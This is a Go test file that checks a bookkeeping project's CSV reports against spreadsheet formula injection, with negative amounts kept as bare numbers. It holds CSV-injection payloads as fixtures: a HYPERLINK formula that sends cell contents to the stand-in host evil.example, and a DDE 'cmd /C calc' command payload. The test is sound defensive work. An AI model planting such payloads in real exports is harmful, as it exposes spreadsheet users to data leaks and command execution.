package reports_test

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"

	"github.com/ontschot/ontschot/ledger"
	"github.com/ontschot/ontschot/ledger/sheet"
	"github.com/ontschot/ontschot/reports"
)

// The payloads of the issue and of the OWASP page on CSV injection.
const (
	hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"Klik")`
	cmd       = `+cmd|' /C calc'!A0`
	sum       = `@SUM(1+1)`
	minus     = `-Stichting Min`
)

// hostileStatement is the fixed statement with a payload in every name a
// partner statement carries, and negative amounts where a quarter can
// have them (more reversed than paid, a recovery taken back).
func hostileStatement() *reports.Statement {
	s := fixedStatement()
	s.Pot.Name = minus
	s.Funding[0].Partner = hyperlink
	s.Categories[0].Label = sum
	s.Recovered[1].Source = cmd
	s.Recovered[1].Amount = -12_50
	s.Receivables[0].Party = hyperlink
	s.Payouts = -23_580_45
	s.Months[1].Spending = -6_850_00
	return s
}

func hostileFinanceView() *reports.FinanceView {
	v := fixedFinanceView()
	v.Lines[0].TaakveldName = sum
	v.Lines[0].Amount = -12_500_00
	v.Parties[0].Party = hyperlink
	v.Parties[0].Amount = -1_620_00
	v.Parties[1].Party = minus
	v.Receivables[0].Party = cmd
	v.Maatwerk = -6_212_15
	return v
}

func hostileLegitimacy() *reports.Legitimacy {
	l := fixedLegitimacy()
	l.Exceptions[0].DeviatesFrom = []string{cmd, sum}
	l.Exceptions[1].DeviatesFrom = []string{hyperlink}
	l.Exceptions[2].DeviatesFrom = []string{minus}
	l.Exceptions[3].Amount = -180_00
	l.ReversedAmount = -180_00
	return l
}

var plainNumber = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// checkNoFormula parses a CSV with encoding/csv and fails on any field a
// spreadsheet would run as a formula: one that begins with =, +, -, @, a
// tab or a carriage return, unless it is a plain decimal number written
// bare (an amount). Each payload must be there, behind a single quote in
// a quoted field; each negative amount must be there as a bare number.
func checkNoFormula(t *testing.T, name string, out []byte, payloads []string, negatives []ledger.Cents) {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(out))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s does not parse as CSV: %v", name, err)
	}
	fields := map[string]bool{}
	for _, rec := range recs {
		for _, f := range rec {
			fields[f] = true
			if f != "" && strings.ContainsRune("=+-@\t\r", rune(f[0])) && !plainNumber.MatchString(f) {
				t.Errorf("%s: a spreadsheet would run %q", name, f)
			}
		}
	}
	for _, p := range payloads {
		quoted := `"'` + strings.ReplaceAll(p, `"`, `""`)
		if !bytes.Contains(out, []byte(quoted)) {
			t.Errorf("%s does not hold %q guarded and quoted (%s)", name, p, quoted)
		}
	}
	lines := "\n" + string(out)
	for _, c := range negatives {
		if !fields[c.String()] || !(strings.Contains(lines, ","+c.String()+",") || strings.Contains(lines, ","+c.String()+"\n")) {
			t.Errorf("%s does not hold the amount %s as a bare number", name, c)
		}
	}
}

// TestCSVCannotRunFormulas writes every CSV document with names and texts
// that are formulas, and negative amounts: no cell may reach a
// spreadsheet as a formula, and every amount stays the number it is. The
// golden files pin the exact bytes.
func TestCSVCannotRunFormulas(t *testing.T) {
	var b bytes.Buffer
	if err := reports.StatementCSV(&b, hostileStatement(), sheet.Standard); err != nil {
		t.Fatal(err)
	}
	checkNoFormula(t, "statement CSV", b.Bytes(), []string{minus, hyperlink, sum, cmd}, []ledger.Cents{-12_50, -23_580_45, -6_850_00})
	golden(t, "hostile-statement.csv", b.Bytes())

	b.Reset()
	if err := reports.FinanceViewCSV(&b, hostileFinanceView(), sheet.Standard); err != nil {
		t.Fatal(err)
	}
	checkNoFormula(t, "finance view CSV", b.Bytes(), []string{sum, hyperlink, minus, cmd}, []ledger.Cents{-12_500_00, -1_620_00, -6_212_15})
	golden(t, "hostile-finance.csv", b.Bytes())

	b.Reset()
	if err := reports.LegitimacyCSV(&b, hostileLegitimacy(), sheet.Standard); err != nil {
		t.Fatal(err)
	}
	checkNoFormula(t, "legitimacy CSV", b.Bytes(), []string{cmd + " | " + sum, hyperlink, minus}, []ledger.Cents{-180_00})
	golden(t, "hostile-legitimacy.csv", b.Bytes())
}
